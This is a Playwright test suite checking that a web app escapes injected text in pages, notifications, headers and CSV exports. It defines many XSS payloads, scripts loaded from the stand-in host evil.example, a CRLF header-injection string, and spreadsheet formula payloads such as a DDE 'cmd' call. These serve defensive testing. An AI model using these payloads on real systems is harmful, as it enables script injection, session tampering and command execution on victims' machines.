// Tests texts that try to become markup, scripts, formulas or headers, from every
// source: titles, SKUs, file names, email addresses, Name tags, searches, token names
// and responses of services; on every page, in notifications and in files.
import { createServer, type Server as HttpServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "@playwright/test";
import { csvFile, EMAIL, expect, PASSWORD, type Server, signIn, test } from "../fixtures.ts";

/** Host of every foreign URL in the texts; every script calls `hostile`. */
const FOREIGN_HOST = "evil.example";

const HOSTILE_TEXTS = [
  `</title><script src=data:text/javascript,hostile(1) x="`,
  `</title><script src=//${FOREIGN_HOST}/1.js x="`,
  `</title><script>hostile(2)</script>`,
  `</title><script src=data:text/javascript,hostile(3) x='`,
  `<img src=x onerror=hostile(4)>`,
  `"><svg onload=hostile(5)>`,
  `" autofocus onfocus=hostile(6) x="`,
  `' autofocus onfocus=hostile(7) x='`,
  `</script><script>hostile(8)</script>`,
  `\\u003c/script>\\u003cscript>hostile(9)\\u003c/script>`,
  `\\</script><script>hostile(10)//`,
  `<!--<script>`,
  `--><script>hostile(11)</script><!--`,
  `]]><script>hostile(12)</script>`,
  `javascript:hostile(13)`,
  `{{constructor.constructor('hostile(14)')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: hostile text that must stay text
  "`${hostile(15)}`",
  `"};hostile(16);//`,
  `';hostile(17);'`,
  `<meta http-equiv=refresh content="0;url=http://${FOREIGN_HOST}/">`,
  `</title></head><body><base href=http://${FOREIGN_HOST}/>`,
  `</textarea></style></noscript><iframe srcdoc="<script>parent.hostile(18)</script>">`,
  `<form action=http://${FOREIGN_HOST}/><button autofocus>Launch</button>`,
  `<a href=javascript:hostile(19) id=main name=trustedTypes>Jobs</a>`,
  `<link rel=stylesheet href=http://${FOREIGN_HOST}/x.css>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=hostile(20)>`,
  `<xss-probe style=position:fixed;inset:0 onpointerover=hostile(21)>`,
  `&lt;script&gt;hostile(22)&lt;/script&gt;`,
  `%3Cscript%3Ehostile(23)%3C/script%3E`,
  `%0d%0aSet-Cookie:hostile=1`,
  `a"; filename="b.html`,
  `=HYPERLINK("http://${FOREIGN_HOST}/","x")`,
  `+cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(1+1)`,
  `\u202e\u2066<b>\u2028hostile(24)\u2069`,
];

/** Hostile texts without the characters that an email address may not contain. */
const HOSTILE_EMAILS = [
  `<img/src=x/onerror=hostile(30)>@${FOREIGN_HOST}`,
  `"'/><script>hostile(31)</script>@${FOREIGN_HOST}`,
];

const escapeXml = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");

const instanceId = (n: number) => `i-0a1b2c3d4e5f6${String(n).padStart(4, "0")}`;

/** Starts channels and an EC2 endpoint that put one of the texts into every response. */
async function startExternalService(): Promise<HttpServer> {
  let responseCount = 0;
  const machine = (name: string, n: number) =>
    `<item><instancesSet><item><instanceId>${instanceId(n)}</instanceId>` +
    `<instanceState><code>80</code><name>stopped</name></instanceState><instanceType>${escapeXml(name)}</instanceType>` +
    `<placement><availabilityZone>${escapeXml(name)}</availabilityZone></placement><tagSet><item><key>Name</key>` +
    `<value>${escapeXml(name)}</value></item></tagSet></item></instancesSet></item>`;
  const server = createServer((request, response) => {
    let body = "";
    request.on("data", (bytes) => (body += bytes));
    request.on("end", () => {
      const text = HOSTILE_TEXTS[responseCount++ % HOSTILE_TEXTS.length]!;
      if (body.includes("DescribeInstances")) {
        const machines = HOSTILE_TEXTS.map(machine).join("");
        response.end(
          `<DescribeInstancesResponse><reservationSet>${machines}</reservationSet></DescribeInstancesResponse>`,
        );
      } else if (request.url!.startsWith("/channels/")) {
        if (request.method === "GET") return response.end(`{"items":[]}`);
        const stored = /xss-probe|javascript:|&lt;/.test(body);
        response.statusCode = stored ? 201 : 422;
        response.end(JSON.stringify(stored ? { id: text } : { error: text, reason: text }));
      } else {
        const error = `<Error><Code>UnauthorizedOperation</Code><Message>${escapeXml(text)}</Message></Error>`;
        response.statusCode = 403;
        response.end(`<Response><Errors>${error}</Errors></Response>`);
      }
    });
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  return server;
}

/** Describes everything that the texts did in a browser. */
class InjectionFindings {
  readonly descriptions: string[] = [];
  /** Paths that the test itself navigates to. */
  private allowedPaths = new Set<string>(["about:blank"]);

  constructor(private server: Server) {}

  async watch(context: BrowserContext) {
    await context.exposeBinding("hostile", (_, n) => void this.descriptions.push(`script ${n} ran`));
    await context.route("**", (route) => {
      const url = new URL(route.request().url());
      if (url.origin === this.server.url) return route.continue();
      this.descriptions.push(`requested ${url}`);
      return route.abort();
    });
    context.on("page", (page) => this.watchPage(page));
    context.on("weberror", (error) => this.descriptions.push(`error ${error.error()}`));
  }

  private watchPage(page: Page) {
    page.on("dialog", (dialog) => {
      this.descriptions.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("framenavigated", (frame) => {
      const { pathname, search, origin } = new URL(frame.url());
      const isAllowed = origin === this.server.url && this.allowedPaths.has(pathname + search);
      if (frame.parentFrame() || (!isAllowed && frame.url() !== "about:blank"))
        this.descriptions.push(`navigated to ${frame.url()}`);
    });
    page.on("console", (message) => {
      // The browser logs each 404 and 422, which some pages are expected to have.
      if (message.type() !== "error" || /status of (404|422)/.test(message.text())) return;
      this.descriptions.push(`at ${page.url()}: ${message.text()}`);
    });
  }

  allowPath(path: string) {
    const { pathname, search } = new URL(path, this.server.url);
    this.allowedPaths.add(pathname + search);
  }

  /** Opens a page, and checks that it is intact and contains nothing that a text added. */
  async openAndInspect(page: Page, path: string, isHydrated = true) {
    this.allowPath(path);
    await page.goto(`${this.server.url}${path}`);
    await this.inspect(page, isHydrated);
  }

  async inspect(page: Page, isHydrated = true) {
    if (isHydrated) await expect(page.getByTestId("connection"), `hydrated at ${page.url()}`).toHaveText("live");
    const report = await page.evaluate(() => {
      const all = [...document.querySelectorAll("*")];
      const handlers = all.filter((it) => [...it.attributes].some(({ name }) => name.startsWith("on")));
      const foreign = all.filter((it) =>
        /^(iframe|object|embed|base|img|math|xss-probe|mglyph|area|frame)$/i.test(it.localName),
      );
      const scripts = [...document.scripts].filter((it) => !it.nonce || it.src);
      const nonces = all.filter((it) => it.localName !== "script" && (it as HTMLElement).nonce);
      const links = all.filter((it) =>
        /^\s*javascript:/i.test(it.getAttribute("href") ?? it.getAttribute("action") ?? ""),
      );
      const refresh = [...document.querySelectorAll("meta[http-equiv], form[action*='//'], [style]")];
      const count = (selector: string) => document.querySelectorAll(selector).length;
      const html = [...handlers, ...foreign, ...scripts, ...nonces, ...links, ...refresh].map((it) =>
        it.outerHTML.slice(0, 200),
      );
      return { html, titles: count("head > title"), mains: count("main"), bodies: count("body"), heads: count("h1") };
    });
    for (const html of report.html) this.descriptions.push(`${page.url()} has ${html}`);
    const { titles, mains, bodies, heads } = report;
    if (titles !== 1 || mains !== 1 || bodies !== 1 || heads < 1) {
      this.descriptions.push(`${page.url()} is broken: ${JSON.stringify({ titles, mains, bodies, heads })}`);
    }
  }
}

const csvQuoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** Returns the cells of a CSV file, unquoted. */
function parseCsvCells(file: string): string[] {
  const found = [];
  for (const [, quoted, plain] of file.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,"\r\n]*))/g)) {
    found.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
  }
  return found;
}

/** Launches a job as the user signed in on `page`; returns undefined if the text is rejected. */
async function tryLaunch(page: Page, server: Server, file: string, content: string): Promise<string | undefined> {
  const response = await page.request.post(`${server.url}/api/v1/jobs/product-uploads`, {
    params: { channels: "acme", file },
    headers: { origin: server.url, "content-type": "text/csv" },
    data: content,
  });
  if (response.status() === 422) return undefined;
  expect(response.status(), await response.text()).toBe(202);
  return (await response.json()).job.id;
}

/** Returns a file with one product per text; a SKU has at most 64 characters. */
const productCsv = (texts: string[]) => {
  const row = (text: string) =>
    `${csvQuoted(text.slice(0, 60))},${csvQuoted(text)},1.00,${csvQuoted(text)},${csvQuoted(text)}`;
  return ["sku,title,price,description,vendor", ...texts.map(row)].join("\r\n");
};

interface World {
  findings: InjectionFindings;
  context: BrowserContext;
  /** Page of a signed-in admin. */
  page: Page;
}

const injectionTest = test.extend<{ services: HttpServer; world: World }>({
  services: async ({}, use) => {
    const services = await startExternalService();
    await use(services);
    services.closeAllConnections();
    services.close();
  },
  settings: async ({ services }, use) =>
    use({
      MEANWHILE_ADMIN_EMAIL: EMAIL,
      MEANWHILE_ADMIN_PASSWORD: PASSWORD,
      MEANWHILE_SANDBOX_URL: `http://127.0.0.1:${(services.address() as AddressInfo).port}`,
    }),
  world: async ({ server, browser }, use) => {
    test.setTimeout(900_000);
    const findings = new InjectionFindings(server);
    const context = await browser.newContext({ permissions: ["notifications"] });
    await findings.watch(context);
    const page = await context.newPage();
    for (const path of ["/", "/sign-in"]) findings.allowPath(path);
    await signIn(page, server);
    await findings.inspect(page);
    await use({ findings, context, page });
    expect(findings.descriptions, "what the texts did").toEqual([]);
    await context.close();
  },
});

/** Launches one job for each text, named after it; rejected ones are left out. */
async function launchAll(page: Page, server: Server): Promise<Map<string, string>> {
  const jobs = new Map<string, string>();
  for (const text of HOSTILE_TEXTS) {
    const job = await tryLaunch(page, server, text, productCsv([text]));
    if (job) jobs.set(text, job);
  }
  expect(jobs.size, "most texts are accepted as file names").toBeGreaterThan(HOSTILE_TEXTS.length - 5);
  return jobs;
}

/** Returns a text as a title shows it, with white space collapsed. */
const visibleText = (text: string) => text.replaceAll(/[\u2028\s]+/g, " ").trim();

injectionTest(
  "hostile job titles stay text on pages, in toasts, notifications and headers",
  async ({ server, world }) => {
    const { findings, context, page } = world;
    const worker = context.serviceWorkers()[0] ?? (await context.waitForEvent("serviceworker"));
    await expect.poll(() => worker.evaluate("self.registration.active?.state")).toBe("activated");
    await worker.evaluate("Clients.prototype.matchAll = async () => []");
    const jobs = await launchAll(page, server);
    await expect(page.getByTestId("unread-count")).toHaveText(`${jobs.size}`, { timeout: 180_000 });
    await expect(page.getByTestId("toast")).toHaveCount(3);
    await findings.inspect(page);
    const notificationTitles = "self.registration.getNotifications().then((all) => all.map((it) => it.title))";
    await expect.poll(async () => ((await worker.evaluate(notificationTitles)) as string[]).length).toBeGreaterThan(0);
    for (const title of (await worker.evaluate(notificationTitles)) as string[]) {
      expect(
        [...jobs.keys()].some((text) => title.includes(text)),
        title,
      ).toBe(true);
    }

    for (const path of ["/", "/jobs", "/inbox", "/jobs?q=%3Cscript"]) await findings.openAndInspect(page, path);
    for (const [text, job] of jobs) {
      await findings.openAndInspect(page, `/jobs/${job}`);
      expect(visibleText(await page.title()), "neither markup nor escaped twice").toBe(
        `(${jobs.size}) ${visibleText(text)}`,
      );
      await expect(page.getByRole("heading", { level: 1 })).toContainText(text);
      const file = await page.request.get(`${server.url}/jobs/${job}/failed.csv`);
      expect(file.status()).toBe(200);
      const name = /^attachment; filename="[\w. -]+"; filename\*=UTF-8''[\w.%-]+$/;
      expect(file.headers()["content-disposition"]).toMatch(name);
      expect(file.headers()["set-cookie"]).toBeUndefined();
    }
    // Repeats the check where the browser renders the page.
    await findings.openAndInspect(page, "/jobs");
    for (const [text, job] of [...jobs].slice(0, 6)) {
      findings.allowPath(`/jobs/${job}`);
      await page.locator(`a[href="/jobs/${job}"]`).first().click();
      await expect.poll(async () => visibleText(await page.title())).toBe(`(${jobs.size}) ${visibleText(text)}`);
      await findings.inspect(page);
      await page.goBack();
      await expect(page.getByRole("heading", { name: "Jobs", exact: true })).toBeVisible();
    }
  },
);

injectionTest(
  "hostile products, email addresses, Name tags, token names and responses stay text",
  async ({ server, world }) => {
    const { findings, page } = world;
    const job = (await tryLaunch(page, server, "texts.csv", productCsv(HOSTILE_TEXTS)))!;
    for (const email of HOSTILE_EMAILS) {
      const invited = await page.request.post(`${server.url}/people`, {
        headers: { origin: server.url },
        form: { email, role: "user" },
        maxRedirects: 0,
      });
      expect(invited.status()).toBe(303);
    }
    for (const name of HOSTILE_TEXTS.map((text) => text.slice(0, 80))) {
      const created = await page.request.post(`${server.url}/api/v1/tokens`, {
        headers: { origin: server.url },
        data: { name, password: PASSWORD },
      });
      expect(created.status()).toBe(201);
    }
    const state = async () => (await (await page.request.get(`${server.url}/api/v1/jobs/${job}`)).json()).state;
    await expect.poll(state, { timeout: 180_000 }).not.toBe("running");
    const started = await page.request.post(`${server.url}/api/v1/jobs/ec2-starts`, {
      headers: { origin: server.url },
      data: { instance_ids: HOSTILE_TEXTS.slice(0, 12).map((_, n) => instanceId(n)) },
    });
    expect(started.status()).toBe(202);
    const machines = (await started.json()).job.id;

    const views = [job, machines].flatMap((id) =>
      ["", "?view=timeline", "?view=flow"].map((view) => `/jobs/${id}${view}`),
    );
    for (const path of ["/", "/machines", "/people", "/account", "/inbox", "/search?q=%3C", ...views]) {
      await findings.openAndInspect(page, path);
    }
    await findings.openAndInspect(page, "/machines");
    await expect(page.getByTestId("machine")).toHaveCount(HOSTILE_TEXTS.length);
    const { items } = await (await page.request.get(`${server.url}/api/v1/jobs/${job}/tasks?limit=200`)).json();
    for (const { id } of items.slice(0, 6)) {
      await findings.openAndInspect(page, `/jobs/${job}?task=${id}`);
      await expect(page.getByTestId("attempt").first()).toBeVisible();
    }

    const file = await (await page.request.get(`${server.url}/jobs/${job}/failed.csv`)).text();
    const cells = parseCsvCells(file);
    expect(cells.length).toBeGreaterThan(HOSTILE_TEXTS.length);
    expect(
      cells.filter((cell) => /^[=+\-@\t\r\n]/.test(cell)),
      "cells that a spreadsheet would run",
    ).toEqual([]);
    expect(cells.filter((cell) => cell.startsWith("'=")).length, "formulas are exported, but escaped").toBeGreaterThan(
      0,
    );
  },
);

injectionTest("hostile searches, URLs and problem messages stay text", async ({ world }) => {
  const { findings, page } = world;
  for (const [n, text] of HOSTILE_TEXTS.entries()) {
    await findings.openAndInspect(page, `/search?q=${encodeURIComponent(text)}`);
    // The pages' router decodes percent signs twice.
    if (!text.startsWith("%")) await expect(page.getByTestId("search-field")).toHaveValue(text);
    await findings.openAndInspect(page, `/${encodeURIComponent(text)}`, false);
    if (n % 3) continue;
    const path = `/machines?problem=${encodeURIComponent(text)}`;
    findings.allowPath(path);
    // A message is shown only if a page of this server led to it.
    await page.evaluate((path) => location.assign(path), path);
    await expect(page.getByTestId("problem")).toBeVisible();
    await findings.inspect(page);
  }
});

injectionTest("hostile texts in a file that is only checked stay text", async ({ world }) => {
  const { findings, page } = world;
  for (const text of HOSTILE_TEXTS) {
    const sku = text.slice(0, 60);
    const refused = [sku, text, text, text].map(csvQuoted).join(",");
    const content = `sku,title,price,${csvQuoted(text)}\r\n${refused}\r\n${csvQuoted(`b${sku}`)},${csvQuoted(text)},1,\r\n`;
    const name = `${text.replaceAll("/", "\u2215")}.csv`;
    await page.getByLabel(/CSV file/).setInputFiles(csvFile(content, name));
    await expect(page.getByTestId("check-result")).toBeVisible();
    await findings.inspect(page);
  }
});

/** Scripts with the page's nonce, as if an unclosed attribute had swallowed a later tag. */
const SCRIPTS_WITH_NONCE = [
  `<script src=data:text/javascript,hostile(40) nonce="NONCE"></script>`,
  `<script type=module src=data:text/javascript,hostile(41) x="</title><b" nonce="NONCE"></script>`,
  `<script src=http://${FOREIGN_HOST}/42.js nonce="NONCE"></script>`,
  `<script src=blob:http://${FOREIGN_HOST}/43 nonce="NONCE"></script>`,
];

// Pretends that a text was not escaped: the policies must hold by themselves.
injectionTest("scripts injected into a page as markup do not run", async ({ server, browser }) => {
  test.setTimeout(900_000);
  const context = await browser.newContext();
  const page = await context.newPage();
  await signIn(page, server);
  const ran: string[] = [];
  let injected = { text: "", before: "" };
  await page.exposeBinding("hostile", (_, n) => void ran.push(`${n}: ${injected.text} before ${injected.before}`));
  await page.route("**/inbox", async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    expect(html).toContain(injected.before);
    const nonce = /nonce="([^"]+)"/.exec(html)?.[1] ?? "no nonce";
    const text = injected.text.replace("NONCE", nonce);
    await route.fulfill({ response, body: html.replace(injected.before, () => text + injected.before) });
  });
  await page.route(`http://${FOREIGN_HOST}/**`, (route) =>
    route.fulfill({ contentType: "text/javascript", body: "hostile(42)" }),
  );
  const texts = HOSTILE_TEXTS.filter((text) => text.includes("hostile(") && text.includes("<"));
  expect(texts.length).toBeGreaterThan(10);
  const scripts = [...new Set(texts.flatMap((text) => [text, text.replace("</title>", "")])), ...SCRIPTS_WITH_NONCE];
  for (const before of ["<title>", "<script nonce", "<main", "</body>"]) {
    for (const text of scripts) {
      injected = { text, before };
      await page.goto(`${server.url}/inbox`);
    }
  }
  expect(ran, "scripts that ran").toEqual([]);
  await context.close();
});
